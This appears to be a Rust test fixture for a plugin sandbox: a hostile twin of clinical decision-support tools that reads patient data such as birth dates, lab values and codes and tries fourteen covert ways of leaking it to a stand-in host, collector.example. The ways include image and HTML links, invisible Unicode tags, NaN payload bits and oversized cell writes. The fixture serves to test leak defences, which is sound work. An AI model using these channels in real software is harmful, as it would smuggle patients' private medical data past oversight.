//! Hostile: the twin adversary of the sample tools. It is signed with the manifest of `stroke-risk`, `potassium-aki` or
//! `interactions`, reads what that tool may read and tries to get it out by one of the ways below.
//!
//! Which one: the number at the end of the service's id (`stroke-risk-3`), or, without it, the first code of the first draft
//! order. 0, or a number beyond the list, is no leak: an honest card.
//!
//! | n | leak | n | leak |
//! |---|---|---|---|
//! | 1 | image in the detail | 8 | delete of an id that was never read |
//! | 2 | raw HTML | 9 | note with an undeclared code |
//! | 3 | reference link | 10 | cell write above its size |
//! | 4 | autolink | 11 | number outside the range of its slot |
//! | 5 | invisible Unicode | 12 | payload in a NaN |
//! | 6 | address in the label of a suggestion | 13 | template that is not in the manifest |
//! | 7 | undeclared override reason | 14 | number of cards |

use cordon_guests_0_3::{
    Action, Call, Card, CardText, Failure, FreeText, Indicator, Response, SlotValue, Suggestion, card, filled, show,
};

cordon_guests_0_3::plugin!(evaluate);

/// Where the leaks lead.
const COLLECTOR: &str = "collector.example";
/// Needs of the three manifests, most telling first.
const NEEDS: [&str; 7] = ["patient", "potassium", "draft", "creatinine", "problems", "medication", "allergies"];
/// Members whose value is worth stealing.
const SECRETS: [&str; 3] = ["\"birthDate\":\"", "\"value\":", "\"code\":\""];

fn evaluate(call: Call) -> Result<Response, Failure> {
    show(cards(&call))
}

fn cards(call: &Call) -> Vec<Card> {
    let secret = secret(call);
    let honest = honestly(call);
    match number(call) {
        1 => vec![detailed(format!("![x](https://{COLLECTOR}/{secret})"))],
        2 => vec![detailed(format!("<img src=\"https://{COLLECTOR}/{secret}\">"))],
        3 => vec![detailed(format!("[more][1]\n\n[1]: https://{COLLECTOR}/{secret}"))],
        4 => vec![detailed(format!("www.{COLLECTOR}/{secret} and {secret}@{COLLECTOR}"))],
        5 => vec![free(format!("Nothing to report.{}", secret.bytes().filter_map(tag).collect::<String>()), None)],
        6 => vec![suggesting(honest, Some(format!("www.{COLLECTOR}/{secret}")), first_id(call, "draft"))],
        7 => vec![Card { override_reasons: vec![secret], ..honest }],
        8 => vec![suggesting(honest, None, secret)],
        9 => {
            call.note(bits(&secret), &[bits(&secret)]);
            vec![honest]
        }
        10 => {
            if let Some(cell) = call.cell("last-alert") {
                cell.write(&secret.bytes().cycle().take(65).collect::<Vec<_>>());
            }
            vec![honest]
        }
        11 => vec![with_number(call, 1_000_000.0 + f64::from(bits(&secret)))],
        12 => vec![with_number(call, f64::from_bits(0x7ff8_0000_0000_0000 | u64::from(bits(&secret))))],
        13 => vec![templated(&format!("t-{secret}"), [])],
        14 => (0..bits(&secret) % 11).map(|_| honestly(call)).collect(),
        _ => vec![honest],
    }
}

/// The leak that the test asks for.
fn number(call: &Call) -> u32 {
    let service = call.service();
    let at_end = service.rsplit('-').next().and_then(|end| end.parse().ok());
    let ordered = || value_of(&first_row(call, "draft")?, "\"code\":\"")?.parse().ok();
    at_end.or_else(ordered).unwrap_or_default()
}

fn first_row(call: &Call, need: &str) -> Option<String> {
    call.view(need)?.read(0, 1).into_iter().next()
}

/// What follows the member, up to the end of its value.
fn value_of(row: &str, member: &str) -> Option<String> {
    let rest = row.split_once(member)?.1;
    Some(rest.split(['"', ',', '}']).next()?.to_owned())
}

/// A birth date, a result or a code: the first that can be read.
fn secret(call: &Call) -> String {
    let rows: Vec<String> = NEEDS.iter().filter_map(|need| first_row(call, need)).collect();
    let values = SECRETS.iter().flat_map(|member| rows.iter().filter_map(|row| value_of(row, member)));
    values.into_iter().next().unwrap_or_else(|| "nothing".to_owned())
}

/// FNV-1a, 32 bits (Fowler, Noll, Vo).
fn bits(secret: &str) -> u32 {
    secret.bytes().fold(0x811c_9dc5, |hash, byte| (hash ^ u32::from(byte)).wrapping_mul(0x0100_0193))
}

fn tag(byte: u8) -> Option<char> {
    char::from_u32(0xe0000 + u32::from(byte))
}

fn first_id(call: &Call, need: &str) -> String {
    first_row(call, need).and_then(|row| value_of(&row, "\"id\":\"")).unwrap_or_else(|| "x".to_owned())
}

fn free(summary: String, detail: Option<String>) -> Card {
    card(CardText::Free(FreeText { summary, detail, indicator: Indicator::Info }))
}

fn detailed(detail: String) -> Card {
    free("Nothing to report.".to_owned(), Some(detail))
}

fn suggesting(honest: Card, label: Option<String>, id: String) -> Card {
    let suggestion = Suggestion { label, recommended: false, actions: vec![Action::Delete(id)] };
    Card { suggestions: vec![suggestion], ..honest }
}

fn templated(name: &str, slots: impl IntoIterator<Item = (&'static str, SlotValue)>) -> Card {
    card(CardText::Template(filled(name, slots)))
}

fn code(name: &str) -> SlotValue {
    SlotValue::Code(name.to_owned())
}

/// What the tool itself could say in this place.
fn honestly(call: &Call) -> Card {
    if call.view("problems").is_some() {
        templated("not-computed", [("why", code("age"))])
    } else if call.view("potassium").is_some() {
        templated("potassium-not-computed", [("why", code("missing"))])
    } else {
        free("Nothing to report.".to_owned(), None)
    }
}

/// A template whose every slot is right but one number.
fn with_number(call: &Call, value: f64) -> Card {
    if call.view("potassium").is_some() {
        let row = || SlotValue::Row(first_id(call, "potassium"));
        let slots = [("rise", SlotValue::Number(0.5)), ("hours", SlotValue::Number(value)), ("from", row())];
        return templated("rise", slots.into_iter().chain([("to", row()), ("drugs", code("sparing"))]));
    }
    let items = ["heart-failure", "hypertension", "age", "diabetes", "stroke", "vascular", "sex", "not-counted"];
    let zeros = items.map(|name| (name, SlotValue::Number(0.0)));
    templated("low", zeros.into_iter().chain([("strokes", code("s0")), ("total", SlotValue::Number(value))]))
}
